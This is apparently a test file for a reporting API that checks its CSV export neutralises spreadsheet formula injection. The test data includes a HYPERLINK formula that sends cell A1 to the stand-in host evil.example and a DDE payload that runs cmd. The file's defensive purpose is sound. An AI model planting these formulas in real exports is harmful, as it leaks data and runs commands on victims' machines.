import { expect } from 'chai';
import { csvField } from '../../src/reports/csv.js';
import { api, newToken } from '../api/api-client.js';
import { resetDatabase } from '../support/database.js';
import { startTestServer, type TestServer } from '../support/server.js';
import { agentHistory } from './fixtures.js';
import { getReport } from './report-client.js';

// Names an agent (or whoever can edit agents) could give themselves so that opening the report in
// a spreadsheet runs a formula: a link that sends the sheet's cells away, DDE, arithmetic.
const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];

/** The survey columns of an agent who took no call: zero counts, empty averages and rates, CSAT 1…5 none. */
const NO_SURVEYS = '0,0,,,0,,0,0,0,0,,0,0,0,0,0,0';

describe('Reports CSV: formula injection (OWASP CSV injection)', () => {
  let server: TestServer;
  before(async () => (server = await startTestServer({ env: { CENTRE_TIMEZONE: 'UTC' } })));
  after(() => server.close());
  beforeEach(resetDatabase);

  it('a text cell starting with = + - or @ is prefixed with a quote; the numbers stay numbers', async () => {
    const token = await newToken();
    for (const name of HOSTILE) {
      const created = await api(server, token, 'POST', '/api/agents', {
        name,
        contact: { kind: 'phone', value: `+1555010${String(HOSTILE.indexOf(name)).padStart(4, '0')}` },
      });
      expect(created.status, name).to.equal(201);
      await agentHistory(created.body.id, [
        ['2024-03-05T09:00:00Z', 'available'],
        ['2024-03-05T09:30:00Z', 'offline'],
      ]);
    }
    const res = await getReport(
      server,
      '/api/reports/agents?from=2024-03-05T09:00&to=2024-03-05T10:00&interval=hour&format=csv',
      {},
      token,
    );
    expect(res.status).to.equal(200);
    const lines = (res.body as string).split('\r\n').filter((l) => l.includes(',total,'));
    expect(lines.map((l) => l.replace(/^\d+,/, ''))).to.deep.equal([
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",total,1800,0,0,0,,${NO_SURVEYS}`,
      `'+1+cmd|' /C calc'!A0,total,1800,0,0,0,,${NO_SURVEYS}`,
      `'-2+3,total,1800,0,0,0,,${NO_SURVEYS}`,
      `'@SUM(A1:A9),total,1800,0,0,0,,${NO_SURVEYS}`,
    ]);
    // JSON is data, not a spreadsheet: names are as they were given.
    const json = await getReport(server, '/api/reports/agents?from=2024-03-05T09:00&to=2024-03-05T10:00&interval=hour', {}, token);
    expect(json.body.totals.map((t: { agent: string }) => t.agent)).to.deep.equal(HOSTILE);
  });

  it('tab and carriage return starts too; a negative number from a numeric column is left a number', () => {
    expect(csvField('\t=1+1')).to.equal("'\t=1+1");
    expect(csvField('\r=1+1')).to.equal(`"'\r=1+1"`);
    expect(csvField('-12.5')).to.equal("'-12.5");
    expect(csvField(-12.5)).to.equal('-12.5');
    expect(csvField(-1e-7)).to.equal('-1e-7');
    expect(csvField('Ana')).to.equal('Ana');
  });
});
